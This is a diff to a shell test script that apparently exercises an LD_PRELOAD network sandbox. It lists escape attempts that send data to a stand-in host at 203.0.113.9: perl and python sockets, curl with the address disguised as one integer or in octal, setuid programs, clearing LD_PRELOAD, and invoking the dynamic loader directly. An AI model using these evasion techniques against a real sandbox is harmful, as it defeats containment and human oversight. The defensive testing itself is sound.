@@ -9,6 +9,12 @@ escape_perl() { perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("203.0
 escape_python() { python3 -c 'import socket, sys; socket.create_connection(("203.0.113.9", 8080), 2).sendall(sys.argv[1].encode())' "$1"; }
 escape_address_as_one_number() { curl -s --max-time 2 --noproxy '*' "http://3405803785:8080/$1"; }
 escape_address_in_octal() { curl -s --max-time 2 --noproxy '*' "http://0313.0.0161.011:8080/$1"; }
+# The loader ignores LD_PRELOAD where the program is another's; below no_new_privs it stays its caller's.
+escape_program_of_another_user() {
+	local drop=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+	[ "$(id -u)" = 0 ] || drop=()
+	"${drop[@]}" "$T/setuid" tcp_connect
+}
 escape_environment_cleared() { env -i "$PATH_OF_ESCAPE" tcp_connect; }
 escape_environment_cleared_by_the_shell() { bash -c 'unset LD_PRELOAD EGRET_CONFIG; exec "$0" tcp_connect' "$PATH_OF_ESCAPE"; }
 escape_loader_called_directly() { env -u LD_PRELOAD /lib64/ld-linux-x86-64.so.2 "$PATH_OF_ESCAPE" tcp_connect; }
@@ -35,7 +41,7 @@ token_of() {
 
 list_attempts() {
 	local program
-	for program in escape_send escape_connect escape_kernel escape_reach; do
+	for program in escape_send escape_connect escape_kernel escape_reach escape_libc; do
 		"$PROGRAMS/$program" list | sed "s/^/$program /"
 	done
 	declare -F | sed -n 's/^declare -f escape_/script /p'
